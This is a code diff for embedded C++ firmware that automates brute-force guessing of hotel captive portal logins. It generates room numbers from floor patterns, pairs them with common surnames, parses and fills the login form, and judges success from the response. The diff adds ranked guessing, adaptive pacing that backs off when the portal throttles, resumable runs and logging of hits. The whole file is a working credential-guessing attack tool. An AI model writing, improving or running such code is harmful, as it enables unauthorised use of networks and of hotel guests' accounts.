@@ -5,19 +5,83 @@
 #include <SD.h>
 
 // Static member initialization
-std::vector<String> Enumerator::roomNumbers;
-std::vector<String> Enumerator::surnames;
-std::vector<String> Enumerator::customRooms;
-std::vector<String> Enumerator::customSurnames;
+CandidateSet Enumerator::roomNumbers;
+CandidateSet Enumerator::surnames;
+std::vector<String> Enumerator::extraRooms;
+std::vector<String> Enumerator::extraSurnames;
+CandidateSpec Enumerator::userRoomPattern;
+bool Enumerator::hasUserRoomPattern = false;
 Enumerator::ProgressCallback Enumerator::progressCb = nullptr;
+Enumerator::SuccessCallback Enumerator::successCb = nullptr;
+Enumerator::AttemptCallback Enumerator::attemptCb = nullptr;
+FormTemplate Enumerator::formTemplate;
+CandidatePriors Enumerator::priors;
+CandidateOrder Enumerator::roomOrder;
+CandidateOrder Enumerator::nameOrder;
+float Enumerator::maxRate = ENUM_MAX_RATE;
+
+// Default room patterns (generated on demand, nothing is materialized)
+struct DefaultRoomPattern {
+    const char* mask;
+    uint16_t floorFirst, floorLast;
+    uint16_t roomFirst, roomLast;
+    char letterFirst, letterLast;
+};
+
+static const DefaultRoomPattern defaultRoomPatterns[] = {
+    {"%F%2R", 1, 3, 1, 20, 'A', 'A'},    // Floors 1-3: 101-120 ... 301-320
+    {"%F%2R", 4, 5, 1, 10, 'A', 'A'},    // Floors 4-5: 401-410, 501-510
+    {"%F%2R", 6, 11, 1, 3, 'A', 'A'},    // Higher floors (common in larger hotels)
+    {"%R", 0, 0, 1, 10, 'A', 'A'},       // Simple numbers
+    {"%L%R", 0, 0, 1, 3, 'A', 'C'}       // Letter prefixes: A1-C3
+};
+
+// Default embedded surname list (top surnames)
+static const char* const defaultSurnames[] = {
+    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller",
+    "Davis", "Rodriguez", "Martinez", "Hernandez", "Lopez", "Gonzalez",
+    "Wilson", "Anderson", "Thomas", "Taylor", "Moore", "Jackson", "Martin",
+    "Lee", "Perez", "Thompson", "White", "Harris", "Sanchez", "Clark",
+    "Ramirez", "Lewis", "Robinson", "Walker", "Young", "Allen", "King",
+    "Wright", "Scott", "Torres", "Nguyen", "Hill", "Flores", "Green",
+    "Adams", "Nelson", "Baker", "Hall", "Rivera", "Campbell", "Mitchell",
+    "Carter", "Roberts", "Patel", "Kim", "Murphy", "Chen", "Wang", "Li",
+    "Guest", "Test", "Demo", "Admin"
+};
+
+// CandidateWords adapters over a String vector
+static uint32_t stringListCount(const void* ctx) {
+    return ((const std::vector<String>*)ctx)->size();
+}
+
+static const char* stringListGet(const void* ctx, uint32_t index) {
+    return (*(const std::vector<String>*)ctx)[index].c_str();
+}
 
-// Field detection keywords
-const char* roomKeywords[] = {"room", "zimmer", "chambre", "habitacion", "number", "num", "rm"};
-const char* lastNameKeywords[] = {"last", "surname", "family", "nachname", "apellido", "nom"};
-const char* firstNameKeywords[] = {"first", "given", "vorname", "nombre", "prenom"};
-const char* emailKeywords[] = {"email", "mail", "correo"};
-const char* phoneKeywords[] = {"phone", "tel", "mobile", "cell", "telefon"};
-const char* codeKeywords[] = {"code", "access", "pin", "password", "pwd", "pass"};
+static CandidateWords stringListWords(const std::vector<String>& list) {
+    CandidateWords words;
+    words.ctx = &list;
+    words.count = stringListCount;
+    words.get = stringListGet;
+    return words;
+}
+
+// Append non-comment lines of a wordlist file
+static void loadWordlistFile(const char* path, std::vector<String>& out) {
+    #if USE_SD_CARD_IF_AVAILABLE
+    if (SD.exists(path)) {
+        File f = SD.open(path, FILE_READ);
+        while (f.available()) {
+            String line = f.readStringUntil('\n');
+            line.trim();
+            if (line.length() > 0 && line[0] != '#') {
+                out.push_back(line);
+            }
+        }
+        f.close();
+    }
+    #endif
+}
 
 void Enumerator::init() {
     // Initialize SPIFFS for wordlist storage
@@ -28,288 +92,151 @@ void Enumerator::init() {
     }
 
     // Load wordlists
-    roomNumbers = loadRoomNumbers();
-    surnames = loadSurnames();
+    loadRoomNumbers();
+    loadSurnames();
+    loadPriors();
 
     #if DEBUG_SERIAL
-    Serial.printf("[ENUM] Loaded %d room numbers, %d surnames\n",
-        roomNumbers.size(), surnames.size());
+    Serial.printf("[ENUM] Loaded %u room numbers, %u surnames, %u name priors\n",
+        roomNumbers.size(), surnames.size(), priors.nameCount());
     #endif
 }
 
-std::vector<String> Enumerator::loadRoomNumbers() {
-    std::vector<String> rooms;
-
-    // Default embedded list (subset for memory efficiency)
-    const char* defaultRooms[] = {
-        // Floor 1
-        "101", "102", "103", "104", "105", "106", "107", "108", "109", "110",
-        "111", "112", "113", "114", "115", "116", "117", "118", "119", "120",
-        // Floor 2
-        "201", "202", "203", "204", "205", "206", "207", "208", "209", "210",
-        "211", "212", "213", "214", "215", "216", "217", "218", "219", "220",
-        // Floor 3
-        "301", "302", "303", "304", "305", "306", "307", "308", "309", "310",
-        "311", "312", "313", "314", "315", "316", "317", "318", "319", "320",
-        // Floor 4
-        "401", "402", "403", "404", "405", "406", "407", "408", "409", "410",
-        // Floor 5
-        "501", "502", "503", "504", "505", "506", "507", "508", "509", "510",
-        // Higher floors (common in larger hotels)
-        "601", "602", "603", "701", "702", "703", "801", "802", "803",
-        "901", "902", "903", "1001", "1002", "1003", "1101", "1102", "1103",
-        // Simple numbers
-        "1", "2", "3", "4", "5", "6", "7", "8", "9", "10",
-        // Letter prefixes
-        "A1", "A2", "A3", "B1", "B2", "B3", "C1", "C2", "C3"
-    };
-
-    for (const char* room : defaultRooms) {
-        rooms.push_back(String(room));
-    }
-
+void Enumerator::loadRoomNumbers() {
     // Try to load extended list from SD card
-    #if USE_SD_CARD_IF_AVAILABLE
-    if (SD.exists("/wordlists/room_numbers.txt")) {
-        File f = SD.open("/wordlists/room_numbers.txt", FILE_READ);
-        while (f.available()) {
-            String line = f.readStringUntil('\n');
-            line.trim();
-            if (line.length() > 0 && line[0] != '#') {
-                rooms.push_back(line);
-            }
-        }
-        f.close();
-    }
-    #endif
+    extraRooms.clear();
+    loadWordlistFile("/wordlists/room_numbers.txt", extraRooms);
 
-    return rooms;
+    rebuildRoomCandidates();
 }
 
-std::vector<String> Enumerator::loadSurnames() {
-    std::vector<String> names;
+void Enumerator::loadSurnames() {
+    // Try to load extended list from SD card
+    extraSurnames.clear();
+    loadWordlistFile("/wordlists/surnames.txt", extraSurnames);
 
-    // Default embedded list (top surnames)
-    const char* defaultNames[] = {
-        "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller",
-        "Davis", "Rodriguez", "Martinez", "Hernandez", "Lopez", "Gonzalez",
-        "Wilson", "Anderson", "Thomas", "Taylor", "Moore", "Jackson", "Martin",
-        "Lee", "Perez", "Thompson", "White", "Harris", "Sanchez", "Clark",
-        "Ramirez", "Lewis", "Robinson", "Walker", "Young", "Allen", "King",
-        "Wright", "Scott", "Torres", "Nguyen", "Hill", "Flores", "Green",
-        "Adams", "Nelson", "Baker", "Hall", "Rivera", "Campbell", "Mitchell",
-        "Carter", "Roberts", "Patel", "Kim", "Murphy", "Chen", "Wang", "Li",
-        "Guest", "Test", "Demo", "Admin"
-    };
+    surnames.clear();
+    surnames.addArray(defaultSurnames, sizeof(defaultSurnames) / sizeof(defaultSurnames[0]));
+    surnames.addWords(stringListWords(extraSurnames));
+}
 
-    for (const char* name : defaultNames) {
-        names.push_back(String(name));
-    }
+void Enumerator::loadPriors() {
+    priors.clear();
 
-    // Try to load extended list from SD card
     #if USE_SD_CARD_IF_AVAILABLE
-    if (SD.exists("/wordlists/surnames.txt")) {
-        File f = SD.open("/wordlists/surnames.txt", FILE_READ);
+    if (SD.exists(ENUM_PRIORS_PATH)) {
+        File f = SD.open(ENUM_PRIORS_PATH, FILE_READ);
         while (f.available()) {
             String line = f.readStringUntil('\n');
-            line.trim();
-            if (line.length() > 0 && line[0] != '#') {
-                names.push_back(line);
+            if (!priors.parseLine(line.c_str())) {
+                #if DEBUG_SERIAL
+                Serial.printf("[ENUM] Ignoring prior: %s\n", line.c_str());
+                #endif
             }
         }
         f.close();
     }
     #endif
-
-    return names;
-}
-
-std::vector<FormField> Enumerator::analyzePortalForm(const String& html) {
-    std::vector<FormField> fields = extractFormFields(html);
-
-    // Detect field types
-    for (auto& field : fields) {
-        field.detectedType = detectFieldType(field);
-    }
-
-    #if DEBUG_SERIAL && DEBUG_PORTAL
-    Serial.printf("[ENUM] Analyzed form: %d fields\n", fields.size());
-    for (const auto& field : fields) {
-        Serial.printf("  - %s (%s) -> Type: %d\n",
-            field.name.c_str(), field.type.c_str(), field.detectedType);
-    }
-    #endif
-
-    return fields;
 }
 
-FieldType Enumerator::detectFieldType(const FormField& field) {
-    String combined = field.name + " " + field.id + " " + field.placeholder;
-    combined.toLowerCase();
-
-    // Check for room number
-    for (const char* kw : roomKeywords) {
-        if (combined.indexOf(kw) >= 0) {
-            return FIELD_ROOM_NUMBER;
-        }
-    }
-
-    // Check for last name
-    for (const char* kw : lastNameKeywords) {
-        if (combined.indexOf(kw) >= 0) {
-            return FIELD_LAST_NAME;
-        }
-    }
-
-    // Check for first name
-    for (const char* kw : firstNameKeywords) {
-        if (combined.indexOf(kw) >= 0) {
-            return FIELD_FIRST_NAME;
-        }
-    }
-
-    // Check for email
-    for (const char* kw : emailKeywords) {
-        if (combined.indexOf(kw) >= 0) {
-            return FIELD_EMAIL;
-        }
-    }
+void Enumerator::rebuildRoomCandidates() {
+    roomNumbers.clear();
 
-    // Check for phone
-    for (const char* kw : phoneKeywords) {
-        if (combined.indexOf(kw) >= 0) {
-            return FIELD_PHONE;
-        }
-    }
-
-    // Check for code/password
-    for (const char* kw : codeKeywords) {
-        if (combined.indexOf(kw) >= 0) {
-            return FIELD_CODE;
+    if (hasUserRoomPattern) {
+        roomNumbers.addPattern(userRoomPattern);
+    } else {
+        for (const auto& p : defaultRoomPatterns) {
+            CandidateSpec spec;
+            if (CandidateGen::make(spec, p.mask, p.floorFirst, p.floorLast,
+                                   p.roomFirst, p.roomLast,
+                                   p.letterFirst, p.letterLast)) {
+                roomNumbers.addPattern(spec);
+            }
         }
     }
 
-    // Check for checkbox
-    if (field.type == "checkbox") {
-        return FIELD_CHECKBOX;
-    }
-
-    // Check for submit button
-    if (field.type == "submit" || field.type == "button") {
-        return FIELD_BUTTON;
-    }
-
-    return FIELD_UNKNOWN;
+    // SD wordlist and custom rooms follow the generated patterns
+    roomNumbers.addWords(stringListWords(extraRooms));
 }
 
-std::vector<FormField> Enumerator::extractFormFields(const String& html) {
-    std::vector<FormField> fields;
-
-    // Simple HTML parser for input fields
-    int searchStart = 0;
-    while (true) {
-        int inputStart = html.indexOf("<input", searchStart);
-        if (inputStart < 0) break;
-
-        int inputEnd = html.indexOf(">", inputStart);
-        if (inputEnd < 0) break;
-
-        String inputTag = html.substring(inputStart, inputEnd + 1);
-        inputTag.toLowerCase();
-
-        FormField field;
+void Enumerator::useRoomPattern(const CandidateSpec& spec) {
+    userRoomPattern = spec;
+    hasUserRoomPattern = true;
+    rebuildRoomCandidates();
+}
 
-        // Extract name attribute
-        int nameStart = inputTag.indexOf("name=\"");
-        if (nameStart >= 0) {
-            nameStart += 6;
-            int nameEnd = inputTag.indexOf("\"", nameStart);
-            if (nameEnd > nameStart) {
-                field.name = inputTag.substring(nameStart, nameEnd);
-            }
-        }
+void Enumerator::useDefaultRoomPatterns() {
+    hasUserRoomPattern = false;
+    rebuildRoomCandidates();
+}
 
-        // Extract id attribute
-        int idStart = inputTag.indexOf("id=\"");
-        if (idStart >= 0) {
-            idStart += 4;
-            int idEnd = inputTag.indexOf("\"", idStart);
-            if (idEnd > idStart) {
-                field.id = inputTag.substring(idStart, idEnd);
-            }
-        }
+bool Enumerator::getRoomPattern(CandidateSpec& spec) {
+    if (!hasUserRoomPattern) return false;
+    spec = userRoomPattern;
+    return true;
+}
 
-        // Extract type attribute
-        int typeStart = inputTag.indexOf("type=\"");
-        if (typeStart >= 0) {
-            typeStart += 6;
-            int typeEnd = inputTag.indexOf("\"", typeStart);
-            if (typeEnd > typeStart) {
-                field.type = inputTag.substring(typeStart, typeEnd);
-            }
-        } else {
-            field.type = "text";  // Default
-        }
+const CandidateSet& Enumerator::getRoomCandidates() {
+    return roomNumbers;
+}
 
-        // Extract placeholder
-        int phStart = inputTag.indexOf("placeholder=\"");
-        if (phStart >= 0) {
-            phStart += 13;
-            int phEnd = inputTag.indexOf("\"", phStart);
-            if (phEnd > phStart) {
-                field.placeholder = inputTag.substring(phStart, phEnd);
-            }
-        }
+const CandidateSet& Enumerator::getSurnameCandidates() {
+    return surnames;
+}
 
-        // Check required
-        field.required = inputTag.indexOf("required") >= 0;
+const CandidatePriors& Enumerator::getPriors() {
+    return priors;
+}
 
-        // Add if it has a name
-        if (field.name.length() > 0) {
-            fields.push_back(field);
-        }
+std::vector<FormField> Enumerator::analyzePortalForm(const String& html, const String& pageUrl) {
+    std::vector<PortalForm> forms = FormParser::parse(html, pageUrl);
+    const PortalForm* login = FormParser::pickLogin(forms);
+    if (!login) return std::vector<FormField>();
 
-        searchStart = inputEnd;
+    #if DEBUG_SERIAL && DEBUG_PORTAL
+    Serial.printf("[ENUM] Analyzed form: %d fields\n", login->fields.size());
+    for (const auto& field : login->fields) {
+        Serial.printf("  - %s (%s) -> Type: %d\n",
+            field.name.c_str(), field.type.c_str(), field.detectedType);
     }
+    #endif
 
-    return fields;
+    return login->fields;
 }
 
-String Enumerator::extractFormAction(const String& html) {
-    int formStart = html.indexOf("<form");
-    if (formStart < 0) return "";
-
-    int formEnd = html.indexOf(">", formStart);
-    String formTag = html.substring(formStart, formEnd);
-
-    int actionStart = formTag.indexOf("action=\"");
-    if (actionStart >= 0) {
-        actionStart += 8;
-        int actionEnd = formTag.indexOf("\"", actionStart);
-        if (actionEnd > actionStart) {
-            return formTag.substring(actionStart, actionEnd);
-        }
-    }
+// EnumRunner adapters for the device: HTTPClient transport, millis()/delay()
+// clock, and the enumerator's own callbacks
+void Enumerator::httpSubmit(void* ctx, const char* body, size_t len, EnumResponse& response) {
+    const PortalForm& form = *(const PortalForm*)ctx;
+    submitForm(form.action, form.method, body, len, &response);
+}
 
-    return "";
+uint32_t Enumerator::deviceNow(void*) {
+    return millis();
 }
 
-String Enumerator::extractFormMethod(const String& html) {
-    int formStart = html.indexOf("<form");
-    if (formStart < 0) return "POST";
+void Enumerator::deviceSleep(void*, uint32_t ms) {
+    delay(ms);
+}
 
-    int formEnd = html.indexOf(">", formStart);
-    String formTag = html.substring(formStart, formEnd);
-    formTag.toLowerCase();
+void Enumerator::reportProgress(void*, int attempt, int maxAttempts,
+                                const char* room, const char* name) {
+    if (progressCb) progressCb(attempt, maxAttempts, room, name);
+}
 
-    if (formTag.indexOf("method=\"get\"") >= 0) {
-        return "GET";
-    }
+void Enumerator::reportSuccess(void* ctx, const char* room, const char* name,
+                               uint32_t roomOrdinal, uint32_t nameOrdinal) {
+    recordSuccess(*(EnumResult*)ctx, room, name);
+    if (successCb) successCb(room, name, roomOrdinal, nameOrdinal);
+}
 
-    return "POST";  // Default
+void Enumerator::reportAttempt(void*, const AttemptRecord& record) {
+    if (attemptCb) attemptCb(record);
 }
 
-EnumResult Enumerator::enumerate(NetworkInfo* portal, int maxAttempts) {
+EnumResult Enumerator::enumerate(NetworkInfo* portal, int maxAttempts,
+                                 const std::atomic<bool>* cancel,
+                                 EnumCursor* cursor) {
     EnumResult result;
     result.totalAttempts = 0;
     result.successfulAttempts = 0;
@@ -322,19 +249,22 @@ EnumResult Enumerator::enumerate(NetworkInfo* portal, int maxAttempts) {
         return result;
     }
 
-    // Analyze the form
-    std::vector<FormField> fields = analyzePortalForm(portal->portalHtml);
+    // Parse every form on the page once and pick the login form
+    std::vector<PortalForm> forms = FormParser::parse(portal->portalHtml, portal->portalUrl);
+    const PortalForm* login = FormParser::pickLogin(forms);
 
     // Find room and name fields
-    FormField* roomField = nullptr;
-    FormField* nameField = nullptr;
+    const FormField* roomField = nullptr;
+    const FormField* nameField = nullptr;
 
-    for (auto& field : fields) {
-        if (field.detectedType == FIELD_ROOM_NUMBER && !roomField) {
-            roomField = &field;
-        }
-        if (field.detectedType == FIELD_LAST_NAME && !nameField) {
-            nameField = &field;
+    if (login) {
+        for (const auto& field : login->fields) {
+            if (field.detectedType == FIELD_ROOM_NUMBER && !roomField) {
+                roomField = &field;
+            }
+            if (field.detectedType == FIELD_LAST_NAME && !nameField) {
+                nameField = &field;
+            }
         }
     }
 
@@ -346,112 +276,106 @@ EnumResult Enumerator::enumerate(NetworkInfo* portal, int maxAttempts) {
         return result;
     }
 
-    // Get form submission URL
-    String formAction = extractFormAction(portal->portalHtml);
-    if (formAction.length() == 0) {
-        formAction = portal->portalUrl;
-    } else if (!formAction.startsWith("http")) {
-        // Relative URL - make absolute
-        int slashPos = portal->portalUrl.lastIndexOf('/');
-        if (slashPos > 8) {  // After http://
-            formAction = portal->portalUrl.substring(0, slashPos + 1) + formAction;
-        }
-    }
-
     #if DEBUG_SERIAL
-    Serial.printf("[ENUM] Starting enumeration on %s\n", formAction.c_str());
+    Serial.printf("[ENUM] Starting enumeration on %s %s (form %d of %d, score %d)\n",
+        login->method.c_str(), login->action.c_str(),
+        (int)(login - forms.data()) + 1, forms.size(), login->score);
+    if (login->enctype.indexOf("multipart") >= 0) {
+        Serial.println("[ENUM] Form asks for multipart; submitting urlencoded");
+    }
     Serial.printf("[ENUM] Room field: %s, Name field: %s\n",
         roomField ? roomField->name.c_str() : "none",
         nameField ? nameField->name.c_str() : "none");
     #endif
 
-    // Determine enumeration strategy
-    int attemptCount = 0;
-    int successCount = 0;
-
-    // If we have both room and name, try combinations
-    if (roomField && nameField) {
-        // Try common surname with room number enumeration
-        for (const String& room : roomNumbers) {
-            if (attemptCount >= maxAttempts) break;
-
-            // Try with a few common surnames
-            for (int i = 0; i < min(5, (int)surnames.size()); i++) {
-                if (attemptCount >= maxAttempts) break;
-
-                if (progressCb) {
-                    progressCb(attemptCount, maxAttempts,
-                        "Room " + room + " / " + surnames[i]);
-                }
-
-                bool success = testCredentials(formAction, fields, room, surnames[i]);
-                attemptCount++;
-                result.totalAttempts++;
-
-                if (success) {
-                    successCount++;
-                    result.successfulAttempts++;
-
-                    EnumAttempt attempt;
-                    attempt.fieldValues = "{\"room\":\"" + room + "\",\"name\":\"" + surnames[i] + "\"}";
-                    attempt.success = true;
-                    attempt.timestamp = millis();
-                    result.successes.push_back(attempt);
-
-                    // Track patterns
-                    result.discoveredPatterns.push_back("Room: " + room);
-                }
-
-                // Rate limiting to avoid detection/blocking
-                delay(500);
-            }
-        }
+    // Compile the form once; each attempt only fills the room/name slots
+    if (!compileTemplate(login->fields, formTemplate)) {
+        result.venueInsights = "Portal form too large to submit";
+        return result;
     }
-    // If only room number
-    else if (roomField) {
-        for (const String& room : roomNumbers) {
-            if (attemptCount >= maxAttempts) break;
 
-            if (progressCb) {
-                progressCb(attemptCount, maxAttempts, "Testing room " + room);
-            }
+    // Rank candidates by the priors (likely floors and surnames first).
+    // Same priors and wordlists give the same order; EnumJob's checkpoint
+    // hashes both and refuses a resume when either has changed.
+    if (roomField && priors.hasRoomPriors()) {
+        roomOrder.build(roomNumbers, priors.roomScorer());
+    }
+    if (nameField && priors.hasNamePriors()) {
+        nameOrder.build(surnames, priors.nameScorer());
+    }
 
-            bool success = testCredentials(formAction, fields, room, "");
-            attemptCount++;
-            result.totalAttempts++;
+    // Enumeration plan: every ordinal maps to one (room, name) attempt.
+    // With both fields, try the few most likely surnames per room.
+    EnumPlan plan;
+    plan.rooms = roomField ? &roomNumbers : nullptr;
+    plan.names = nameField ? &surnames : nullptr;
+    plan.nameCount = min((uint32_t)5, surnames.size());
+    plan.roomOrder = roomOrder.isRanked() ? &roomOrder : nullptr;
+    plan.nameOrder = nameOrder.isRanked() ? &nameOrder : nullptr;
 
-            if (success) {
-                successCount++;
-                result.successfulAttempts++;
-                result.discoveredPatterns.push_back("Room: " + room);
-            }
+    // Adaptive pacing, starting at the old fixed spacing
+    Pacer pacer;
+    PacerConfig pacing = {maxRate, ENUM_MIN_RATE,
+                          roomField && nameField ? 2.0f : 3.3f};
+    pacer.configure(pacing);
+    pacer.reset(millis());
 
-            delay(300);
-        }
-    }
-    // If only name
-    else if (nameField) {
-        for (const String& name : surnames) {
-            if (attemptCount >= maxAttempts) break;
+    EnumTransport transport = {(void*)login, httpSubmit};
+    EnumClock clock = {nullptr, deviceNow, deviceSleep};
+    EnumHooks hooks = {&result, reportProgress, reportSuccess, reportAttempt};
 
-            if (progressCb) {
-                progressCb(attemptCount, maxAttempts, "Testing name " + name);
-            }
+    // Resume from the caller's cursor if one was given
+    EnumCursor localCursor = {0, 0, 0};
+    EnumCursor& cur = cursor ? *cursor : localCursor;
 
-            bool success = testCredentials(formAction, fields, "", name);
-            attemptCount++;
-            result.totalAttempts++;
+    EnumRunner::run(plan, formTemplate, pacer, transport, clock, hooks,
+                    maxAttempts, cancel, cur);
 
-            if (success) {
-                successCount++;
-                result.successfulAttempts++;
-                result.discoveredPatterns.push_back("Name: " + name);
-            }
+    roomOrder.clear();
+    nameOrder.clear();
 
-            delay(300);
-        }
+    int attemptCount = cur.attempts;
+    int successCount = cur.successes;
+
+    result.totalAttempts = attemptCount;
+    result.successfulAttempts = successCount;
+    summarize(result);
+
+    #if DEBUG_SERIAL
+    Serial.printf("[ENUM] Complete: %d attempts, %d successes\n",
+        attemptCount, successCount);
+    Serial.printf("[ENUM] Pacing: %.2f/s (max %.2f), %u backoffs, %ums baseline\n",
+        pacer.getRate(), maxRate, pacer.getBackoffs(), pacer.getBaselineLatency());
+    Serial.printf("[ENUM] Insight: %s\n", result.venueInsights.c_str());
+    #endif
+
+    return result;
+}
+
+void Enumerator::recordSuccess(EnumResult& result, const char* room, const char* name) {
+    // Bounded: every attempt (hits included) is in the attempt log
+    if (result.discoveredPatterns.size() >= ENUM_MAX_HITS) return;
+
+    if (room[0] && name[0]) {
+        EnumAttempt attempt;
+        attempt.fieldValues = String("{\"room\":\"") + room + "\",\"name\":\"" + name + "\"}";
+        attempt.success = true;
+        attempt.timestamp = millis();
+        result.successes.push_back(attempt);
     }
 
+    // Track patterns
+    if (room[0]) {
+        result.discoveredPatterns.push_back(String("Room: ") + room);
+    } else {
+        result.discoveredPatterns.push_back(String("Name: ") + name);
+    }
+}
+
+void Enumerator::summarize(EnumResult& result) {
+    int successCount = result.successfulAttempts;
+    int attemptCount = result.totalAttempts;
+
     // Generate insights
     if (successCount > 0) {
         // Estimate room count from highest successful room number
@@ -485,113 +409,146 @@ EnumResult Enumerator::enumerate(NetworkInfo* portal, int maxAttempts) {
     }
 
     result.failedAttempts = attemptCount - successCount;
-
-    #if DEBUG_SERIAL
-    Serial.printf("[ENUM] Complete: %d attempts, %d successes\n",
-        attemptCount, successCount);
-    Serial.printf("[ENUM] Insight: %s\n", result.venueInsights.c_str());
-    #endif
-
-    return result;
 }
 
 bool Enumerator::testCredentials(const String& url,
                                  const std::vector<FormField>& fields,
                                  const String& roomNumber,
                                  const String& lastName) {
+    FormTemplate form;
+    if (!compileTemplate(fields, form)) return false;
+
+    size_t bodyLen;
+    const char* body = form.fill(roomNumber.c_str(), lastName.c_str(), &bodyLen);
+    if (!body) return false;
+
+    return submitForm(url, "POST", body, bodyLen);
+}
+
+bool Enumerator::submitForm(const String& url, const String& method,
+                            const char* body, size_t bodyLen,
+                            EnumResponse* details) {
     HTTPClient http;
     WiFiClient client;
 
-    String postData = buildPostData(fields, roomNumber, lastName);
+    static const char* headerKeys[] = {"Retry-After", "Location"};
 
-    http.begin(client, url);
-    http.addHeader("Content-Type", "application/x-www-form-urlencoded");
-    http.setTimeout(PORTAL_CHECK_TIMEOUT);
+    int code;
+    if (method == "GET") {
+        // GET forms carry the fields in the query string
+        String target = url;
+        target.reserve(url.length() + bodyLen + 1);
+        target += url.indexOf('?') >= 0 ? '&' : '?';
+        target += body;  // Template output is NUL-terminated
 
-    int httpCode = http.POST(postData);
+        http.begin(client, target);
+        http.setTimeout(PORTAL_CHECK_TIMEOUT);
+        http.collectHeaders(headerKeys, 2);
+        code = http.GET();
+    } else {
+        http.begin(client, url);
+        http.addHeader("Content-Type", "application/x-www-form-urlencoded");
+        http.setTimeout(PORTAL_CHECK_TIMEOUT);
+        http.collectHeaders(headerKeys, 2);
+        code = http.POST((uint8_t*)body, bodyLen);
+    }
     String response = http.getString();
 
+    String location = http.header("Location");
+    bool success = isSuccessResponse(code, response, location, url);
+
+    if (details) {
+        // Only the delay-seconds form; an HTTP-date falls back to the default hold
+        long seconds = http.header("Retry-After").toInt();
+        details->httpCode = code;
+        details->retryAfterMs = seconds > 0 ? (uint32_t)seconds * 1000 : 0;
+        details->success = success;
+        details->bodyHash = AttemptLog::hashBody(response.c_str(), response.length());
+        details->bodyLen = response.length();
+    }
+
     http.end();
 
-    return isSuccessResponse(httpCode, response);
+    return success;
 }
 
-String Enumerator::buildPostData(const std::vector<FormField>& fields,
-                                 const String& roomNumber,
-                                 const String& lastName) {
-    String data = "";
+bool Enumerator::compileTemplate(const std::vector<FormField>& fields, FormTemplate& form) {
+    form.clear();
 
+    bool submitAdded = false;
     for (const auto& field : fields) {
-        if (data.length() > 0) data += "&";
-
-        data += field.name + "=";
-
+        bool ok;
         switch (field.detectedType) {
             case FIELD_ROOM_NUMBER:
-                data += roomNumber;
+                ok = form.addSlot(field.name.c_str(), SLOT_ROOM);
                 break;
             case FIELD_LAST_NAME:
-                data += lastName;
+                ok = form.addSlot(field.name.c_str(), SLOT_NAME);
                 break;
             case FIELD_FIRST_NAME:
-                data += "Guest";  // Default first name
+                ok = form.addStatic(field.name.c_str(), "Guest");  // Default first name
                 break;
             case FIELD_CHECKBOX:
-                data += "on";  // Accept terms, etc.
+                // Accept terms, etc.
+                ok = form.addStatic(field.name.c_str(),
+                                    field.value.length() > 0 ? field.value.c_str() : "on");
+                break;
+            case FIELD_BUTTON:
+                // A browser sends only the clicked submit control; assume the
+                // first. Plain buttons are never sent, image inputs send x/y
+                if (submitAdded || field.type != "submit") continue;
+                ok = form.addStatic(field.name.c_str(), field.value.c_str());
+                submitAdded = true;
                 break;
             default:
-                // Leave empty or use placeholder
+                // Page default (hidden tokens, selected option) or empty
+                ok = form.addStatic(field.name.c_str(), field.value.c_str());
                 break;
         }
-    }
-
-    return data;
-}
 
-bool Enumerator::isSuccessResponse(int httpCode, const String& response) {
-    // Success indicators
-    if (httpCode == 200 || httpCode == 302) {
-        String lower = response;
-        lower.toLowerCase();
-
-        // Check for success indicators
-        if (lower.indexOf("success") >= 0 ||
-            lower.indexOf("welcome") >= 0 ||
-            lower.indexOf("connected") >= 0 ||
-            lower.indexOf("authenticated") >= 0 ||
-            lower.indexOf("thank you") >= 0) {
-            return true;
-        }
-
-        // Check for failure indicators (return false if found)
-        if (lower.indexOf("invalid") >= 0 ||
-            lower.indexOf("error") >= 0 ||
-            lower.indexOf("incorrect") >= 0 ||
-            lower.indexOf("failed") >= 0 ||
-            lower.indexOf("wrong") >= 0 ||
-            lower.indexOf("not found") >= 0) {
+        if (!ok) {
+            #if DEBUG_SERIAL
+            Serial.printf("[ENUM] Form too large to compile at field %s\n", field.name.c_str());
+            #endif
             return false;
         }
-
-        // 302 redirect often means success
-        if (httpCode == 302) {
-            return true;
-        }
     }
 
-    return false;
+    return true;
+}
+
+bool Enumerator::isSuccessResponse(int httpCode, const String& response,
+                                   const String& location, const String& formUrl) {
+    return EnumRunner::isSuccessResponse(httpCode, response.c_str(), location.c_str(),
+                                         formUrl.c_str());
 }
 
 void Enumerator::addCustomRoom(const String& room) {
-    customRooms.push_back(room);
-    roomNumbers.push_back(room);
+    extraRooms.push_back(room);
 }
 
 void Enumerator::addCustomSurname(const String& surname) {
-    customSurnames.push_back(surname);
-    surnames.push_back(surname);
+    extraSurnames.push_back(surname);
+}
+
+void Enumerator::setMaxRate(float rate) {
+    if (rate < ENUM_MIN_RATE) rate = ENUM_MIN_RATE;
+    if (rate > ENUM_MAX_RATE) rate = ENUM_MAX_RATE;
+    maxRate = rate;
+}
+
+float Enumerator::getMaxRate() {
+    return maxRate;
 }
 
 void Enumerator::setProgressCallback(ProgressCallback cb) {
     progressCb = cb;
 }
+
+void Enumerator::setSuccessCallback(SuccessCallback cb) {
+    successCb = cb;
+}
+
+void Enumerator::setAttemptCallback(AttemptCallback cb) {
+    attemptCb = cb;
+}